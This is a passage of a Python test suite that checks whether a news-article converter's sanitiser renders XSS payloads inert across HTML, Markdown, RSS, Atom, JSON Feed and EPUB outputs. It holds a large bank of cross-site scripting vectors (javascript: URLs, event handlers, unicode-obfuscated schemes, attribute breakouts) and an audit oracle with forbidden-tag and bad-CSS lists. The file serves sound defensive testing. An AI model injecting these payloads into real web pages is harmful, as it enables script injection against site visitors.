    ("bare-js-line", "javascript:alert(1)"),
    ("bare-js-paragraph", "<p>javascript:alert(1)</p>"),
    ("bare-youtube-entity-breakout", "https://www.youtube.com/watch?v=abcdefgh&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("bare-url-quote-breakout", '<p>https://youtu.be/abcdefgh" onload="alert(1)</p>'),
    ("bare-data-url", "<p>data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
    ("bare-url-between-blank-lines", "text\n\nhttps://evil.example/x\"onmouseover=alert(1)\n\nmore"),
    ("bare-link-to-js", '<p><a href="javascript:alert(1)">https://ok.example/</a></p>'),
]  # fmt: skip

UNICODE = [
    ("fullwidth-script-text", "＜script＞alert(1)＜/script＞"),
    ("nul-in-scheme", '<a href="java\x00script:alert(1)">x</a>'),
    ("u2028-in-scheme", '<a href="java\u2028script:alert(1)">x</a>'),
    ("zwsp-before-scheme", '<a href="\u200bjavascript:alert(1)">x</a>'),
    ("zwnj-before-colon", '<a href="javascript\u200c:alert(1)">x</a>'),
    ("bom-before-scheme", '<a href="\ufeffjavascript:alert(1)">x</a>'),
    ("nel-before-scheme", '<a href="\x85javascript:alert(1)">x</a>'),
    ("soft-hyphen-in-scheme", '<a href="ja\xadvascript:alert(1)">x</a>'),
    ("nul-splits-script-tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("nul-splits-handler", "<img src=x on\x00error=alert(1)>"),
    ("nul-entity-before-scheme", '<a href="&#0;javascript:alert(1)">x</a>'),
    ("bom-entity-before-scheme", '<a href="&#xFEFF;javascript:alert(1)">x</a>'),
    ("formfeed-before-handler", "<img src=x \x0conerror=alert(1)>"),
    ("fullwidth-scheme", '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>'),
    ("lone-surrogate-in-scheme", '<a href="java\ud800script:alert(1)">x</a>'),
    ("rtl-override-in-scheme", '<a href="\u202ejavascript:alert(1)">x</a>'),
]  # fmt: skip

LONG = [
    ("long-js-href", '<a href="javascript:' + "/" * 100_000 + 'alert(1)">x</a>'),
    ("long-alt-then-handler", '<img src=x alt="' + "A" * 200_000 + '" onerror=alert(1)>'),
    ("long-title-then-script", '<p title="' + "x" * 100_000 + '"><script>alert(1)</script>t</p>'),
    ("long-https-href-onclick", '<a href="https://ok.example/?q=' + "A" * 50_000 + '" onclick=alert(1)>x</a>'),
    ("many-handlers", "<img src=x " + " ".join(f"on{n}=alert({i})" for i, n in enumerate(["error", "load", "click", "focus", "blur"] * 200)) + ">"),
    ("deep-then-script", "<div>" * 300 + "<script>alert(1)</script>" + "</div>" * 300),
]  # fmt: skip

# Metadata fields: each goes where ``record`` says; an adapter writes them into markup.
FIELDS = [
    *_vectors("title", [
        ("script-tags", "<script>alert(1)</script>Headline"),
        ("escaped-script", "&lt;script&gt;alert(1)&lt;/script&gt; Headline"),
        ("img-onerror", "<img src=x onerror=alert(1)>Headline"),
        ("title-breakout", "</title><script>alert(1)</script>Headline"),
        ("escaped-json-ld-breakout", "Headline &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("escaped-attr-breakout", "&quot;&gt;&lt;svg onload=alert(1)&gt;"),
        ("markdown-link", "[Headline](javascript:alert(1))"),
    ]),
    *_vectors("summary_from_body", [  # no CMS summary: feeds take the body's first sentences
        ("escaped-img", "<p>&lt;img src=x onerror=alert(1)&gt; opening sentence.</p>"),
        ("escaped-script", "<p>&lt;script&gt;alert(1)&lt;/script&gt; opening sentence.</p>"),
    ]),
    *_vectors("summary", [
        ("escaped-img", "&lt;img src=x onerror=alert(1)&gt; summary"),
        ("json-ld-breakout", "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("comment-script", "&lt;!--&lt;script&gt;alert(1)//--&gt;"),
        ("raw-svg", "<svg onload=alert(1)>summary"),
    ]),
    *_vectors("author", [
        ("escaped-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("script-breakout", "</script><img src=x onerror=alert(1)>Author"),
        ("escaped-a-js", "&lt;a href=javascript:alert(1)&gt;Author&lt;/a&gt;"),
    ]),
    *_vectors("author_url", [
        ("js", "javascript:alert(1)"),
        ("js-mixed-case-padded", "  JaVaScRiPt:alert(1)"),
        ("data-html", "data:text/html,<script>alert(1)</script>"),
        ("js-tab", "java\tscript:alert(1)"),
    ]),
    *_vectors("category", [
        ("escaped-img", "&lt;img src=x onerror=alert(1)&gt;"),
    ]),
    *_vectors("category_url", [
        ("js", "javascript:alert(1)"),
        ("vbscript", "vbscript:msgbox(1)"),
    ]),
    *_vectors("keyword", [
        ("escaped-svg", "&lt;svg onload=alert(1)&gt;"),
    ]),
    *_vectors("caption", [
        ("escaped-img", "&lt;img src=x onerror=alert(1)&gt;"),
        ("quote-breakout", "\"><script>alert(1)</script>"),
    ]),
    *_vectors("credit", [
        ("escaped-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ]),
    *_vectors("focal", [
        ("css-injection", "50% 50%; background:url(javascript:alert(1))"),
        ("attr-breakout", '10% 10%" onload="alert(1)'),
        ("expression", "expression(alert(1))"),
    ]),
    *_vectors("url", [
        ("js", "javascript:alert(1)//"),
        ("data", "data:text/html,<script>alert(1)</script>"),
    ]),
    *_vectors("external_url", [
        ("js", "javascript:alert(1)"),
        ("data-padded", " data:text/html,x"),
    ]),
    *_vectors("shorturl", [
        ("js", "javascript:alert(1)"),
    ]),
    *_vectors("keyword_url", [
        ("js", "javascript:alert(1)"),
    ]),
    *_vectors("image_url", [
        ("quote-breakout", 'https://ok.example/a.jpg" onerror="alert(1)'),
    ]),
]  # fmt: skip

VECTORS: list[Vector] = [
    *_vectors("contents", SCRIPTS),
    *_vectors("contents", EVENTS),
    *_vectors("contents", JS_URLS),
    *_vectors("contents", OTHER_SCHEMES),
    *_vectors("contents", SVG),
    *_vectors("contents", MATHML),
    *_vectors("contents", CSS),
    *_vectors("contents", MXSS),
    *_vectors("contents", QUOTES),
    *_vectors("contents", CLOBBERING),
    *_vectors("contents", EMBEDS),
    *_vectors("contents", SHORTCODES),
    *_vectors("contents", BARE),
    *_vectors("contents", UNICODE),
    *_vectors("contents", LONG),
    *FIELDS,
]
BY_ID = {v.id: v for v in VECTORS}
FORMATS = ("html", "html-fragment", "markdown", "rss", "atom", "json-feed", "epub")
NOW = datetime(2026, 1, 1, tzinfo=UTC)
SITE = "https://www.dailymaverick.co.za"


def test_the_bank_is_big_and_distinct() -> None:
    assert len(VECTORS) >= 150
    assert len(BY_ID) == len(VECTORS), "duplicate vector ids"
    assert len({(v.field, v.payload) for v in VECTORS}) == len(VECTORS), "duplicate payloads"


# ---------------------------------------------------------------------------------------------
# Articles


def record(n: int, vector: Vector) -> dict[str, Any]:
    """A complete, publishable CMS record with the vector in its field."""
    rec: dict[str, Any] = {
        "id": str(9_100_000 + n),
        "status": "publish",
        "title": "Bank headline",
        "contents": "<p>Safe body text.</p>",
        "summary": "A safe summary.",
        "firstPublished": "2025-06-01 10:00:00",
        "lastUpdate": "2025-06-01 11:00:00",
        "url": f"{SITE}/article/2025-06-01-bank-{n}/",
        "authors": [{"id": "7", "name": "Safe Author", "url": f"{SITE}/author/safe/"}],
        "categories": [{"id": "3", "name": "South Africa", "slug": "south-africa", "url": f"{SITE}/section/south-africa/"}],
        "keywords": [{"data": {"keywordId": "9", "name": "Water", "slug": "water", "url": f"{SITE}/keyword/water/"}}],
        "attachments": [{
            "type": "image",
            "url": f"{SITE}/wp-content/uploads/2025/06/lead.jpg",
            "name": "Lead caption",
            "description": "Photo: Someone",
            "focal": "30% 40%",
            "width": 1600,
            "height": 900,
            "transforms": [{"x": 800, "y": 0, "url": f"{SITE}/wp-content/uploads/2025/06/lead-800.jpg"}],
        }],
    }  # fmt: skip
    p = vector.payload
    author, category, image = rec["authors"][0], rec["categories"][0], rec["attachments"][0]
    setters = {
        "contents": lambda: rec.__setitem__("contents", p),
        "title": lambda: rec.__setitem__("title", p),
        "summary": lambda: rec.__setitem__("summary", p),
        "summary_from_body": lambda: rec.update(contents=p, summary=""),
        "author": lambda: author.__setitem__("name", p),
        "author_url": lambda: author.__setitem__("url", p),
        "category": lambda: category.__setitem__("name", p),
        "category_url": lambda: category.__setitem__("url", p),
        "keyword": lambda: rec["keywords"][0]["data"].__setitem__("name", p),
        "caption": lambda: image.__setitem__("name", p),
        "credit": lambda: image.__setitem__("description", p),
        "focal": lambda: image.__setitem__("focal", p),
        "url": lambda: rec.__setitem__("url", p),
        "external_url": lambda: rec.__setitem__("externalUrl", p),
        "shorturl": lambda: rec.__setitem__("shorturl", p),
        "keyword_url": lambda: rec["keywords"][0]["data"].__setitem__("url", p),
        "image_url": lambda: image.__setitem__("url", p),
    }
    setters[vector.field]()
    return rec


@functools.cache
def article(vector_id: str) -> Article:
    n = list(BY_ID).index(vector_id)
    return parse_article(record(n, BY_ID[vector_id]), "bank.json", f"item {n + 1}", Options())


@functools.cache
def options() -> Options:
    base = Options(now=NOW)
    cache = Path(tempfile.mkdtemp(prefix="bank-cache-"))  # empty: no image is ever found
    return replace(base, fetch=replace(base.fetch, offline=True, cache_dir=cache))


@functools.cache
def output(vector_id: str, fmt: str) -> bytes:
    o = options()
    if fmt == "html-fragment":
        return render("html", [article(vector_id)], replace(o, fragment=True))
    return render(fmt, [article(vector_id)], o)


@functools.cache
def book() -> zipfile.ZipFile:
    """ONE book of every vector's article (each test reads its own document)."""
    data = render("epub", [article(v.id) for v in VECTORS], options())
    return zipfile.ZipFile(io.BytesIO(data))


# ---------------------------------------------------------------------------------------------
# The audit: what must never be in a parsed output


SAFE_SCHEMES = frozenset({"http", "https", "mailto", "tel"})
PLAYER_HOSTS = frozenset(
    {
        "www.youtube-nocookie.com",
        "player.vimeo.com",
        "datawrapper.dwcdn.net",
        "flo.uri.sh",
        "open.spotify.com",
        "w.soundcloud.com",
    }
)
URL_ATTRIBUTES = frozenset(
    {
        "href", "src", "action", "formaction", "xlink:href", "poster", "data", "cite",
        "background", "lowsrc", "dynsrc", "longdesc", "codebase", "classid", "archive", "ping",
        "manifest", "profile", "usemap", "icon", "itemtype", "to", "from", "values", "by",
    }
)  # fmt: skip
SRCSET_ATTRIBUTES = frozenset({"srcset", "imagesrcset"})
# Never in any output: executable, plugin, navigation-changing, form-control and raw-text
# (mutation-XSS) containers. SVG and MathML elements are checked by namespace as well.
FORBIDDEN_TAGS = frozenset(
    {
        "script", "style", "base", "meta", "link", "object", "embed", "applet", "form", "input",
        "button", "textarea", "select", "option", "iframe", "frame", "frameset", "svg", "math",
        "template", "noscript", "portal", "isindex", "xmp", "plaintext", "listing", "noembed",
        "noframes", "param", "keygen", "animate", "set", "foreignobject", "handler",
        "annotation-xml", "maction", "mglyph", "area", "map", "title", "head", "html", "body",
    }
)  # fmt: skip
SVG_NS = "http://www.w3.org/2000/svg"
MATHML_NS = "http://www.w3.org/1998/Math/MathML"
XLINK_NS = "http://www.w3.org/1999/xlink"
XHTML_NS = "http://www.w3.org/1999/xhtml"
FOCAL_STYLE = re.compile(r"^object-position: \d{1,3}(?:\.\d+)?% \d{1,3}(?:\.\d+)?%$")
BAD_CSS = ("expression(", "javascript:", "vbscript:", "@import", "behavior", "-moz-binding", "url(")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


def url_scheme(value: str) -> str | None:
    """The scheme a lenient URL reader would see: whitespace, controls and invisible format
    characters removed (browsers strip C0/space and drop tab/LF/CR; we are stricter),
    lower-cased. ``None`` for a relative URL. Entities were decoded by the parser."""
    squeezed = "".join(
        ch
        for ch in value
        if not (ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp", "Zs"))
    ).lower()
    m = _SCHEME.match(squeezed)
    return m.group(1) if m else None


def _local(name: str) -> tuple[str, str]:
    """(namespace, lower-case local name) of an ElementTree/lxml tag or attribute name."""
    if name.startswith("{"):
        ns, _, local = name[1:].partition("}")
        return ns, local.lower()
    return "", name.lower()


def _attr_name(name: str) -> str:
    ns, local = _local(name)
    return f"xlink:{local}" if ns == XLINK_NS else local


@dataclass
class Policy:
    """What an output may legitimately hold besides the clean vocabulary."""

    iframes: bool = False  # html and html --fragment: sandboxed players
    page_head: bool = False  # standalone page: its <head> metadata, JSON-LD and <style>
    epub_head: bool = False  # EPUB XHTML: <head> with title, meta charset, stylesheet link
    lead_style: bool = False  # standalone page: the lead image's object-position
    ids: bool = False  # EPUB navigation documents carry ids (not article content)


def audit(root: Any, policy: Policy, where: str) -> list[str]:
    """Every executable or unsafe thing in a parsed tree (html5lib etree or lxml)."""
    problems: list[str] = []

    def bad(el_path: str, message: str) -> None:
        problems.append(f"{where}: <{el_path}> {message}")

    def walk(el: Any, ancestors: tuple[str, ...], classes: tuple[str, ...]) -> None:
        tag = el.tag
        if not isinstance(tag, str) or tag.startswith("<!"):  # comments, PIs, doctype
            return
        ns, name = _local(tag)
        path = "/".join((*ancestors[-3:], name))
        in_head = "head" in ancestors
        attrs = {_attr_name(k): v for k, v in el.attrib.items()}
        if ns in (SVG_NS, MATHML_NS):
            bad(path, f"is an {'SVG' if ns == SVG_NS else 'MathML'} element")
        elif name in FORBIDDEN_TAGS and not _allowed_structural(name, el, attrs, ancestors, policy):
            bad(path, f"is forbidden ({_short(attrs)})")
        if name == "script" and policy.page_head and in_head:
            _check_json_ld(el, attrs, lambda m: bad(path, m))
        if name == "style" and (policy.page_head and in_head):
            text = (el.text or "").lower()
            for needle in BAD_CSS:
                if needle in text:
                    bad(path, f"style text holds {needle!r}")
        if name == "iframe" and policy.iframes:
            src = attrs.get("src", "")
            parts = urlsplit(src.strip())
            if parts.scheme != "https" or parts.hostname not in PLAYER_HOSTS:
                bad(path, f"iframe not on an allow-listed player host: {src[:120]!r}")
            if "sandbox" not in attrs:
                bad(path, "iframe without sandbox")
        for attr, value in attrs.items():
            if attr.startswith("on"):
                bad(path, f"has event handler {attr}={value[:80]!r}")
            elif attr in ("srcdoc", "http-equiv"):
                bad(path, f"has {attr}={value[:80]!r}")
            elif attr == "style":
                lead = policy.lead_style and name == "img" and "lead-image" in classes[-1:]
                if not (lead and FOCAL_STYLE.match(value)):
                    bad(path, f"has style={value[:120]!r}")
            elif (
                attr in ("id", "name")
                and not policy.ids
                and not (in_head and name == "meta" and attr == "name")
            ):
                bad(path, f"has {attr}={value[:80]!r} (DOM clobbering)")
            if attr in URL_ATTRIBUTES or (
                attr == "content" and in_head and "url=" in value.lower()
            ):
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    bad(path, f"has {attr} with scheme {scheme!r}: {value[:120]!r}")
            elif attr in SRCSET_ATTRIBUTES:
                for candidate in value.split(","):
                    scheme = (
                        url_scheme(candidate.strip().split(" ")[0]) if candidate.strip() else None
                    )
                    if scheme is not None and scheme not in SAFE_SCHEMES:
                        bad(path, f"has {attr} candidate with scheme {scheme!r}: {value[:120]!r}")
        cls = attrs.get("class", "")
        for child in el:
            walk(child, (*ancestors, name), (*classes, cls))

    walk(root, (), ())
    return problems


def _allowed_structural(
    name: str, el: Any, attrs: dict[str, str], ancestors: tuple[str, ...], policy: Policy
) -> bool:
    """The few forbidden tag names a document legitimately has, each in its one place."""
    head = "head" in ancestors
    document = policy.page_head or policy.epub_head
    if name in ("html", "head", "body") and document:
        return True
    if name == "title" and head and document:
        return True
    if name == "meta" and head and document:
        return "http-equiv" not in attrs
    if name == "link" and head and document:
        return attrs.get("rel") in ("canonical", "stylesheet")
    if name in ("script", "style") and head and policy.page_head:
        return name == "style" or attrs.get("type") == "application/ld+json"
    return name == "iframe" and policy.iframes


def _check_json_ld(el: Any, attrs: dict[str, str], bad: Any) -> None:
    if attrs.get("type") != "application/ld+json":
        return
    text = el.text or ""
    lowered = text.lower()
    if "</script" in lowered or "<!--" in lowered or "<script" in lowered:
        bad("JSON-LD holds markup that ends or re-opens the script")
    try:
        json.loads(text)
    except ValueError as exc:
        bad(f"JSON-LD is not valid JSON: {exc}")


def _short(attrs: dict[str, str]) -> str:
    return ", ".join(f"{k}={v[:60]!r}" for k, v in list(attrs.items())[:4])


# ---------------------------------------------------------------------------------------------
# Parsing each output the way its consumer does


def html_document(text: str) -> Any:
    return html5lib.parse(text, treebuilder="etree", namespaceHTMLElements=False)


def html_fragment(text: str) -> Any:
    return html5lib.parseFragment(
        text, container="div", treebuilder="etree", namespaceHTMLElements=False
    )


def _markdown_renderer() -> MarkdownIt:
    md = MarkdownIt("commonmark")  # raw HTML on, as CommonMark renderers have it
    md.validateLink = lambda url: True  # judge the Markdown, not markdown-it's safety net
    return md


MARKDOWN = _markdown_renderer()
XML_PARSER = etree.XMLParser(resolve_entities=False, no_network=True, huge_tree=True)


def split_front_matter(text: str) -> tuple[dict[str, Any], str]:
    assert text.startswith("---\n"), text[:80]
    end = text.index("\n---\n", 4)
    return yaml.safe_load(text[4:end]), text[end + 5 :]


def audit_output(fmt: str, data: bytes, where: str, article_id: str) -> list[str]:
    """Parse one output of one article as its consumer would, and audit it."""
    text = data.decode("utf-8")
    if fmt == "html":
        return audit(
            html_document(text), Policy(iframes=True, page_head=True, lead_style=True), where
        )
    if fmt == "html-fragment":
        return audit(html_fragment(text), Policy(iframes=True), where)
    if fmt == "markdown":
        meta, body = split_front_matter(text)
        assert isinstance(meta, dict)
        return audit(html_fragment(MARKDOWN.render(body)), Policy(), f"{where} (rendered)")
    if fmt == "rss":
        return audit_rss(data, where)
    if fmt == "atom":
        return audit_atom(data, where)
    if fmt == "json-feed":
        return audit_json_feed(text, where)
    raise AssertionError(fmt)


def _url_problem(value: str | None, where: str) -> list[str]:
    scheme = url_scheme(value or "")
    if scheme is not None and scheme not in SAFE_SCHEMES:
        return [f"{where}: URL with scheme {scheme!r}: {value[:120]!r}"]  # type: ignore[index]
    return []


def audit_rss(data: bytes, where: str) -> list[str]:
    root = etree.fromstring(data, XML_PARSER)
    problems: list[str] = []
    content = "{http://purl.org/rss/1.0/modules/content/}encoded"
    items = root.findall("channel/item")
    assert items, f"{where}: the article is not in the feed"
    for item in items:
        # content:encoded is HTML; so is <description> (RSS 2.0: "entity-encoded HTML").
        for tag in (content, "description"):
            for el in item.iter(tag):
                problems += audit(
                    html_fragment(el.text or ""), Policy(), f"{where} <{_local(tag)[1]}>"
                )
        for el in item.iter("link", "comments"):
            problems += _url_problem(el.text, f"{where} <{el.tag}>")
        for el in item.iter("guid"):
            if el.get("isPermaLink") != "false":
                problems += _url_problem(el.text, f"{where} <guid>")
        for el in item.iter():
            for attr in ("url", "href"):
                if isinstance(el.tag, str) and el.get(attr) is not None:
                    problems += _url_problem(el.get(attr), f"{where} <{_local(el.tag)[1]} {attr}>")
    return problems


def audit_atom(data: bytes, where: str) -> list[str]:
    root = etree.fromstring(data, XML_PARSER)
    atom = "{http://www.w3.org/2005/Atom}"
    problems: list[str] = []
    entries = root.findall(f"{atom}entry")
    assert entries, f"{where}: the article is not in the feed"
    for entry in entries:
        for el in entry.iter():
            if not isinstance(el.tag, str):
                continue
            kind = el.get("type")
            label = f"{where} <{_local(el.tag)[1]} type={kind}>"
            if el.tag in (f"{atom}content", f"{atom}summary", f"{atom}title", f"{atom}rights"):
                if kind == "html":
                    problems += audit(html_fragment(el.text or ""), Policy(), label)
                elif kind == "xhtml":
                    for child in el:
                        problems += audit(child, Policy(), label)
            if el.get("href") is not None:
                problems += _url_problem(el.get("href"), f"{label} href")
            if el.tag in (f"{atom}uri", f"{atom}icon", f"{atom}logo"):
                problems += _url_problem(el.text, label)
            if el.get("url") is not None:
                problems += _url_problem(el.get("url"), f"{label} url")
    return problems


def audit_json_feed(text: str, where: str) -> list[str]:
    doc = json.loads(text)
    problems: list[str] = []
    assert doc["items"], f"{where}: the article is not in the feed"
    for item in doc["items"]:
        if "content_html" in item:
            problems += audit(
                html_fragment(item["content_html"]), Policy(), f"{where} content_html"
            )
        for key in ("url", "external_url", "image", "banner_image"):
            if key in item:
                problems += _url_problem(item[key], f"{where} {key}")
        for author in item.get("authors", []):
            problems += _url_problem(author.get("url"), f"{where} authors[].url")
        for attachment in item.get("attachments", []):
            problems += _url_problem(attachment.get("url"), f"{where} attachments[].url")
    return problems


def epub_article_document(article_id: str) -> str:
    names = [n for n in book().namelist() if n.endswith(f"article-{article_id}.xhtml")]
    assert len(names) == 1, f"no single document for article {article_id}: {names}"
    return names[0]


def audit_epub(article_id: str, where: str) -> list[str]:
    """The article's own document, and its entries in the shared contents and section pages."""
    z = book()
    name = epub_article_document(article_id)
    root = etree.fromstring(z.read(name), XML_PARSER)
    problems = audit(root, Policy(epub_head=True), f"{where} {name}")
    target = name.rpartition("/")[2]
    for shared in z.namelist():
        if not shared.endswith(".xhtml") or "/article-" in shared:
            continue
        doc = etree.fromstring(z.read(shared), XML_PARSER)
        for li in doc.iter(f"{{{XHTML_NS}}}li"):
            if any(a.get("href") == target for a in li.iter(f"{{{XHTML_NS}}}a")):
                problems += audit(li, Policy(ids=True), f"{where} {shared}")
    return problems


# ---------------------------------------------------------------------------------------------
# The tests


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("vector_id", list(BY_ID))
def test_vector_is_inert_in_every_output(vector_id: str, fmt: str) -> None:
    a = article(vector_id)
    where = f"{vector_id} [{fmt}]"
    if fmt == "epub":
        problems = audit_epub(a.id, where)
    else:
        problems = audit_output(fmt, output(vector_id, fmt), where, a.id)
    assert not problems, "\n".join(problems[:20])


def test_epub_shared_documents_are_inert() -> None:
    """Every member of the book parses as XML; the shared documents (cover, contents, section
    pages, NCX, OPF) hold nothing executable either."""
    z = book()
    problems: list[str] = []
    for name in z.namelist():
        if not name.endswith((".xhtml", ".html", ".ncx", ".opf", ".xml")):
            continue
        root = etree.fromstring(z.read(name), XML_PARSER)  # well-formed, or this raises
        if name.endswith(".xhtml") and "/article-" not in name:
            problems += audit(root, Policy(epub_head=True, ids=True), name)
    css = z.read("EPUB/style/book.css").decode("utf-8").lower()
    problems += [f"book.css holds {n!r}" for n in BAD_CSS if n in css and n != "url("]
    assert not problems, "\n".join(problems[:30])


def test_every_article_is_in_the_book() -> None:
    for v in VECTORS:
        epub_article_document(article(v.id).id)


# A few vectors must keep their harmless text: a sanitiser that deletes everything passes the
# audit trivially. The escaped-markup vectors must still READ as the markup, as text.
TEXT_KEPT = {
    "contents-escaped-script-text": "<script>alert(1)</script>",
    "contents-escaped-img-text": "<img src=x onerror=alert(1)>",
    "contents-escaped-in-code": "<script>alert(1)</script>",
    "contents-fullwidth-script-text": "＜script＞alert(1)＜/script＞",
    "contents-markdown-link-syntax-js": "[click](javascript:alert(1))",
    "contents-markdown-image-syntax-js": "![x](javascript:alert(1))",
    "contents-escaped-autolink-js": "<javascript:alert(1)>",
    "contents-double-escaped-text": "&lt;script&gt;alert(1)&lt;/script&gt;",
}


def _visible_text(root: Any) -> str:
    return " ".join("".join(root.itertext()).split())


@pytest.mark.parametrize("fmt", ("html-fragment", "markdown", "json-feed"))
@pytest.mark.parametrize("vector_id", list(TEXT_KEPT))
def test_escaped_markup_stays_readable_text(vector_id: str, fmt: str) -> None:
    data = output(vector_id, fmt).decode("utf-8")
    if fmt == "markdown":
        html = MARKDOWN.render(split_front_matter(data)[1])
    elif fmt == "json-feed":
        html = json.loads(data)["items"][0]["content_html"]
    else:
        html = data
    assert TEXT_KEPT[vector_id] in _visible_text(html_fragment(html))


# ---------------------------------------------------------------------------------------------
# The oracle itself: an audit that flags nothing proves nothing


AUDIT_MUST_FLAG = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" java&#9;script:alert(1)">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<img src="data:image/png;base64,AAAA">',
    '<img srcset="https://ok.example/a.jpg 1x, javascript:alert(1) 2x">',
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    "<math><mi>x</mi></math>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="x"></iframe>',
    '<p style="color:red">x</p>',
    "<p id=x>x</p>",
    '<form action="https://ok.example/"></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<noscript><p>x</p></noscript>",
    "<template><p>x</p></template>",
    '<a href="vbscript:x">x</a>',
    '<blockquote cite="data:text/html,x">q</blockquote>',
]  # fmt: skip
AUDIT_MUST_PASS = [
    '<p><a href="https://ok.example/">x</a> <a href="mailto:a@b.c">m</a> <a href="/rel">r</a></p>',
    '<figure><img src="https://ok.example/a.jpg" alt="&lt;script&gt;"><figcaption>c</figcaption></figure>',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; javascript:alert(1)</p>",
    "<pre>onerror=alert(1)</pre>",
]  # fmt: skip


@pytest.mark.parametrize("html", AUDIT_MUST_FLAG)
def test_audit_flags_known_bad_markup(html: str) -> None:
    assert audit(html_fragment(html), Policy(), "oracle")


@pytest.mark.parametrize("html", AUDIT_MUST_PASS)
def test_audit_passes_clean_markup(html: str) -> None:
    assert audit(html_fragment(html), Policy(), "oracle") == []


def test_audit_allows_only_sandboxed_player_iframes_in_html() -> None:
    good = '<iframe src="https://www.youtube-nocookie.com/embed/abcdefgh" sandbox="allow-scripts"></iframe>'
    assert audit(html_fragment(good), Policy(iframes=True), "oracle") == []
    assert audit(html_fragment(good), Policy(), "oracle")  # not in non-HTML outputs
    unsandboxed = good.replace(' sandbox="allow-scripts"', "")
    assert audit(html_fragment(unsandboxed), Policy(iframes=True), "oracle")
